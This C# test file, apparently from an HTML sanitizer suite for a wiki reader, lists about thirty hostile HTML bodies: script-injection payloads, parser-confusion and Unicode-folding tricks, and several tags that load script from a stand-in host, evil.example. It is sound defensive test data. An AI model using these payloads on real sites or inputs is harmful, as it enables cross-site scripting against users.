namespace WikiReader.Tests.Articles.Hostile;

/// <summary>Scripts by element.</summary>
internal static class HostileScripts
{
    public static readonly Dictionary<string, string> Bodies = new(StringComparer.Ordinal)
    {
        ["script"] = "a<script>alert(1)</script>b",
        ["script in upper case"] = "a<SCRIPT SRC=//evil.example/x.js></SCRIPT>b",
        ["script with a slash for a space"] = "<script/src=//evil.example/x.js></script>",
        ["script without an end"] = "a<script>alert(1)",
        ["script with a broken end tag"] = "<script>alert(1)</script foo='>'>b",
        ["script inside a comment inside a script"] = "<script><!--<script></script>--></script><p>b",
        ["script split around another"] = "<scr<script></script>ipt>alert(1)</script>",
        ["script of type module"] = "<script type=module>import('//evil.example/x.js')</script>",
        ["import map"] = """<script type="importmap">{"imports":{"x":"//evil.example/"}}</script>""",
        ["speculation rules"] = """<script type="speculationrules">{"prerender":[{"urls":["/signout"]}]}</script>""",
        ["script as text of a reference"] = "&lt;script&gt;alert(1)&lt;/script&gt;",
        ["script as twice escaped text"] = "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        ["script in a table, where it stays"] = "<table><script>alert(1)</script><tr><td>x</table>",
        ["script in a select"] = "<select><script>alert(1)</script><option>x</select>",
        ["script with a tab before its end"] = "<script>alert(1)</script\t\n bar>b",
        ["script closed by another element"] = "<script>alert(1)</style></script >b",
        ["script with an extra angle bracket"] = "<<script>alert(1);//<</script>b",
        ["script without angle brackets around its end"] = "<script src=//evil.example/x.js?< b >",
        ["script of a protocol of its own"] = "<script src=data:text/javascript,alert(1)></script>",
        ["script whose name has a long s"] = "<\u017Fcript>alert(1)</\u017Fcript>",
        ["script whose name has a Kelvin sign"] = "<lin\u212A rel=stylesheet href=//evil.example/a.css><\u212Abd onclick=alert(1)>x",
        ["script in an unknown namespace"] = "<x:script xmlns:x=http://www.w3.org/1999/xhtml>alert(1)</x:script>",
        ["script in a caption"] = "<table><caption><script>alert(1)</script>x</caption></table>",
        ["script in a colgroup"] = "<table><colgroup><script>alert(1)</script><col></colgroup></table>",
        ["script after a frameset"] = "</frameset><script>alert(1)</script>x",
        ["script that the language attribute names"] = "<script language=vbscript>msgbox(1)</script><script for=window event=onload>alert(1)</script>",
        ["XML data islands"] = "<xml id=x><b>&lt;img src=x onerror=alert(1)&gt;</b></xml><span datasrc=#x datafld=b dataformatas=html></span>",
        ["a server-side include"] = "<!--#exec cmd=\"/bin/echo '<script>alert(1)'\"-->x<?= alert(1) ?>",
    };
}
